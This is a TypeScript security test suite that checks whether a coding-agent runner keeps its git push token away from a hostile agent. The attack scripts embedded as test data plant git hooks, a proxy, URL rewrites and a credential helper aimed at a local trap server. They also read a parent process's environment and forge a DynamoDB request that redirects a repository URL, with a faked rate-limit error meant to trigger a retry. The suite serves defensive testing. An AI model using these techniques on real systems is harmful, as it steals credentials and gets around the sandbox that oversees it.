import { chmod, chown, mkdir, readFile, rm, writeFile } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { key } from "../../src/store/dynamo/table";
import { git } from "../support/git";
import { createTaskWorld, type TaskWorld } from "../support/task";

// A hostile agent goes after the push token: through git configuration it can write as the task's
// own user (local mode without agent users), and through the run in the embedded store, which it
// can find on loopback. The repository is reached over authenticated HTTP (the git host double),
// so the token really is in play; a trap server stands where the attacker wants it to go.

interface Trap {
	url: string;
	requests: { method: string; url: string; authorization?: string }[];
	stop(): Promise<void>;
}

/** A server that records every request (a proxy, a fake git host) and answers 401 like a git host. */
async function startTrap(host = "127.0.0.1"): Promise<Trap> {
	const requests: Trap["requests"] = [];
	const server = http.createServer((req, res) => {
		requests.push({
			method: req.method ?? "",
			url: req.url ?? "",
			authorization: req.headers.authorization ?? req.headers["proxy-authorization"],
		});
		res.writeHead(401, { "www-authenticate": 'Basic realm="trap"' });
		res.end();
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	const { port } = server.address() as AddressInfo;
	return {
		url: `http://${host}:${port}`,
		requests,
		stop: () => new Promise((resolve) => server.close(() => resolve())),
	};
}

const ROOT = process.getuid?.() === 0;
const AGENT = 400_000 + ((process.pid * 7) % 100_000);

let w: TaskWorld;
let trap: Trap;
beforeAll(async () => {
	w = await createTaskWorld({}, { gitHttp: true });
	await chmod(w.dir, 0o755);
	trap = await startTrap();
});
afterAll(async () => {
	await trap.stop();
	await w.stop();
});

let n = 0;
async function attack(script: string): Promise<string> {
	const file = path.join(w.dir, `token-attack-${++n}.sh`);
	await writeFile(file, `set -e\n${script}\n`, { mode: 0o644 });
	return `lisa-fake: run=${file}`;
}

describe("the push token goes nowhere but the code host", () => {
	it("ignores the global git config, hooks, fsmonitor, URL rewrites, proxies and helpers an agent of the same user planted", async () => {
		const hooks = path.join(w.dir, "planted-hooks");
		const marker = path.join(w.dir, "planted-ran");
		const gitHost = new URL(w.repos.api?.url as string).origin;
		const planted = `[core]
	hooksPath = ${hooks}
	fsmonitor = ${hooks}/fsmonitor
	sshCommand = ${hooks}/ssh
[url "${trap.url}/"]
	insteadOf = ${gitHost}/
	pushInsteadOf = ${gitHost}/
[http]
	proxy = ${trap.url}
[credential]
	helper = !${hooks}/steal
[protocol]
	allow = always
`;
		// The agent of the first run plants it all in its (the task's) home: ~/.gitconfig and the
		// XDG file; the second run is an innocent one.
		const plant = await attack(`
mkdir -p ${hooks} "$HOME/.config/git"
for h in reference-transaction pre-push post-checkout post-commit pre-commit fsmonitor ssh steal; do
	printf '#!/bin/sh\necho "$0 pwd=$PWD token=\${LISA_GIT_TOKEN:+set}" >> ${marker}\ntimeout 1 cat >> ${marker}\n' > ${hooks}/$h
	chmod +x ${hooks}/$h
done
cat > "$HOME/.gitconfig" <<'CONFIG'
${planted}CONFIG
cp "$HOME/.gitconfig" "$HOME/.config/git/config"`);
		try {
			const first = await w.newRun({ title: "Planting run", description: plant });
			const second = await w.newRun({ title: "Innocent run" });
			for (const runId of [first, second]) {
				const report = await w.runTask(runId);
				expect(report, report?.error).toMatchObject({ outcome: "succeeded" });
				const branch = report?.branch as string;
				expect(await git(w.repo.path, "rev-parse", branch)).toMatch(/^[0-9a-f]{40}$/);
			}
			expect(trap.requests).toEqual([]);
			// What the planted config ran, it ran for the agent's own git commands (its business, as
			// its own user): never in a command of Lisa's, with the token or in its repositories.
			const ran = await readFile(marker, "utf8").catch(() => "");
			expect(ran).not.toContain(w.github.token);
			expect(ran).not.toContain("token=set");
			expect(ran).not.toContain("publish.git");
			expect(ran).not.toMatch(/credential|password=/);
		} finally {
			await rm(path.join(w.dir, ".gitconfig"), { force: true });
			await rm(path.join(w.dir, ".config"), { recursive: true, force: true });
		}
	});

	it.skipIf(!ROOT)(
		"keeps the run out of an agent's reach: it cannot read the store's key nor write its repository URL",
		async () => {
			const settings = w.settings;
			const home = path.join(w.dir, "agent-home");
			await mkdir(home, { recursive: true });
			await chown(home, AGENT, AGENT);
			const runId = await w.newRun({
				title: "Rewrite my run",
				description: await attack(`
# The task (this agent's parent's parent) holds the store's key: not readable by another uid.
TASK=$(awk '{print $4}' /proc/$PPID/stat)
if cat /proc/$TASK/environ > /dev/null 2>&1; then echo "read the task's environment"; fi
cat > forge.mjs <<'FORGE'
const res = await fetch(${JSON.stringify(settings.dynamoEndpoint)}, {
	method: "POST",
	headers: {
		"content-type": "application/x-amz-json-1.0",
		"x-amz-target": "DynamoDB_20120810.UpdateItem",
		"x-amz-date": "20261123T000000Z",
		authorization: "AWS4-HMAC-SHA256 Credential=local/20261123/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00",
	},
	body: JSON.stringify({
		TableName: ${JSON.stringify(settings.tableName)},
		Key: ${JSON.stringify({ pk: { S: key.run("RUNID").pk }, sk: { S: "RUN" } })},
		UpdateExpression: "SET #c.#r[0].#u = :u",
		ExpressionAttributeNames: { "#c": "config", "#r": "repos", "#u": "url" },
		ExpressionAttributeValues: { ":u": { S: ${JSON.stringify(`${trap.url}/api.git`)} } },
	}).replace("RUNID", process.env.RUN_ID),
});
console.log("store answered", res.status);
FORGE
RUN_ID=$(basename "$(dirname "$(pwd)")") node forge.mjs
echo "Error: 429 Too Many Requests" >&2
exit 1`),
			});
			const identity = {
				LISA_AGENT_UID: String(AGENT),
				LISA_AGENT_GID: String(AGENT),
				LISA_AGENT_HOME: home,
			};
			const first = await w.startTask(runId, identity);
			expect((await first.exited).code).toBe(0);
			expect((await w.run(runId)).steps[0]?.report).toMatchObject({
				outcome: "failed",
				transient: true,
			});
			const output = (await w.events(runId)).map((e) => e.message).join("\n");
			expect(output).toContain("store answered 403");
			expect(output).not.toContain("read the task's environment");
			expect((await w.run(runId)).config?.repos[0]?.url).toBe(w.repos.api?.url);
			// The retry clones from where it always did.
			await w.nextAttempt(runId);
			expect((await (await w.startTask(runId, identity)).exited).code).toBe(0);
			expect(trap.requests).toEqual([]);
		},
	);

	it("sends the token only to the code host, even to a repository URL the launch was given", async () => {
		const elsewhere = await startTrap("localhost");
		try {
			const runId = await w.newRun({ title: "Elsewhere" });
			const run = await w.run(runId);
			const config = run.config;
			if (!config?.repos[0]) throw new Error("no repo");
			config.repos[0].url = `${elsewhere.url}/api.git`;
			await w.store.updateRun(run, { set: { config } }, new Date().toISOString());
			const report = await w.runTask(runId);
			expect(report).toMatchObject({ outcome: "failed", transient: false });
			expect(report?.error).toBe(
				'repo "api" is at localhost, but Lisa sends GITHUB_TOKEN only to the code host 127.0.0.1 (GITHUB_API_URL): use a repository there',
			);
			expect(elsewhere.requests).toEqual([]);
		} finally {
			await elsewhere.stop();
		}
	});
});
